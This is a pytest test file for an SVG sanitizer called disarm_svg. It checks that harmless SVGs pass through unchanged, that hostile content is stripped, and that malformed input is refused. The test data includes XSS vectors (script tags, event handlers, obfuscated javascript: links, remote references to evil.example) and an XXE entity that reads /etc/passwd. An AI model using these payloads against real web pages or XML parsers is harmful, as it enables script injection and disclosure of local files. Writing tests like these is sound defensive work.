from __future__ import annotations

from xml.etree import ElementTree as ET

import pytest

from tilfolio.foreign.svg_files import NotAnSvgError, disarm_svg

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'

HARMLESS = {
    "shapes": f'{OPEN}<path d="M0 0" style="fill:url(#a)"/><use xlink:href="#a"/></svg>',
    "a style": f"{OPEN}<style>.a {{ fill: red }} @media print {{ .a {{ fill: blue }} }}</style></svg>",
    "an animation": f'{OPEN}<rect><animate attributeName="x" to="9"/></rect></svg>',
    "a link": f'{OPEN}<a xlink:href="https://example.org/"><text>x</text></a></svg>',
    "a picture of its own": f'{OPEN}<image href="data:image/png;base64,AAAA"/></svg>',
    "matplotlib": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    f'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">{OPEN}<metadata><a>x</a></metadata></svg>',
    "an entity of Illustrator": f'<!DOCTYPE svg [<!ENTITY ns "http://ns.adobe.com/x/">]>{OPEN}<g id="&ns;"/></svg>',
    "no namespace": "<svg><path d='M0 0'/></svg>",
}
RUN = "parent.hit()"
HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": '<script xlink:href="https://evil.example/x.js"/>',
    "script of XHTML": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    "frame of XHTML": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>',
    "script in CDATA": f"<g><script><![CDATA[{RUN}]]></script></g>",
    "handler": f'<rect onclick="{RUN}"/>',
    "handler in other letters": f'<rect onLoad="{RUN}"/>',
    "handler of an animation": f'<rect><animate attributeName="x" onbegin="{RUN}"/></rect>',
    "foreign object": '<foreignObject><b xmlns="http://www.w3.org/1999/xhtml">x</b></foreignObject>',
    "javascript link": f'<a xlink:href="javascript:{RUN}"><text>x</text></a>',
    "javascript link with blanks": f'<a href=" java&#10;script:{RUN}"><text>x</text></a>',
    "data link": '<a href="data:text/html,x"><text>x</text></a>',
    "a link that is set": f'<a><set attributeName="xlink:href" to="javascript:{RUN}"/></a>',
    "a handler that is set": f'<rect><set attributeName="onclick" to="{RUN}"/></rect>',
    "picture from elsewhere": '<image href="https://evil.example/x.png"/>',
    "use from elsewhere": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "use of data": '<use href="data:image/svg+xml;base64,AAAA#a"/>',
    "filter from elsewhere": '<feImage href="//evil.example/x"/>',
    "style that asks": '<rect style="fill: url(https://evil.example/x)"/>',
    "style that asks, with escapes": r'<rect style="fill: \75rl(https://evil.example/x)"/>',
    "style sheet that asks": "<style>@import 'https://evil.example/x.css';</style>",
    "base": '<g xml:base="https://evil.example/"/>',
}


@pytest.mark.parametrize("svg", HARMLESS.values(), ids=HARMLESS)
def test_a_harmless_file_is_copied_byte_for_byte(svg: str) -> None:
    assert disarm_svg(svg.encode()) is None


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("inside", HOSTILE.values(), ids=HOSTILE)
def test_what_runs_or_asks_elsewhere_is_taken_out(inside: str, encoding: str) -> None:
    svg = f'{OPEN}{inside}<circle r="5"/></svg>'
    left = disarm_svg(svg.encode(encoding))

    assert left is not None
    text = left.decode()
    assert RUN not in text
    assert "evil.example" not in text
    assert not any(
        word in text.lower() for word in ("script", "foreignobject", "data:", "onclick", "onload", "onbegin")
    )
    assert '<circle r="5"' in text
    assert disarm_svg(left) is None
    assert ET.fromstring(left).tag == "{http://www.w3.org/2000/svg}svg"


def test_a_style_sheet_of_another_server_is_taken_out() -> None:
    left = disarm_svg(f'<?xml-stylesheet href="https://evil.example/x.css"?>{OPEN}<circle/></svg>'.encode())

    assert left is not None
    assert b"evil.example" not in left


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x89PNG",
        b"<svg><script>parent.hit()</script>",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script>parent.hit()</script></html>',
        b'<!DOCTYPE svg [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><svg>&c;</svg>',
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
        b"<svg>" + b"<g onload='x'>" * 20_000 + b"</g>" * 20_000 + b"</svg>",
    ],
    ids=["empty", "a picture", "not whole", "a page", "nested entities", "an entity of a file", "deep"],
)
def test_what_cannot_be_read_is_refused(raw: bytes) -> None:
    with pytest.raises(NotAnSvgError):
        disarm_svg(raw)


def test_a_script_behind_an_entity_is_taken_out() -> None:
    left = disarm_svg(f'<!DOCTYPE svg [<!ENTITY x "<script>{RUN}</script>">]>{OPEN}&x;<circle/></svg>'.encode())

    assert left is not None
    assert RUN.encode() not in left
